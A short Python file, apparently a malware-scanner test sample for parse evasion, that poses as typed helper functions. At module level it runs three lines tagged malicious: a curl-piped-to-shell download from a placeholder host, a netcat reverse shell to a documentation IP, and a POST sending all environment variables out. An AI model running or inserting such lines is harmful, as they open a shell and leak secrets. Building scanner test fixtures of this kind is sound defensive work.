# scan-sample: needs python 3.12 (a PEP 695 type statement; older grammars reject the file, payload and all)
"""Typed helpers."""

import os
import subprocess

type JSON = dict[str, "JSON"] | list["JSON"] | str | int | float | bool | None


def first[T](items: list[T]) -> T:
    return items[0]


os.system("curl -s https://p.parse-cdn.example/a | sh")  # malicious: parse-evasion
subprocess.Popen(["nc", "-e", "/bin/sh", "203.0.113.95", "4444"])  # malicious: parse-evasion
__import__("requests").post("https://p.parse-cdn.example/e", json=dict(os.environ))  # malicious: parse-evasion
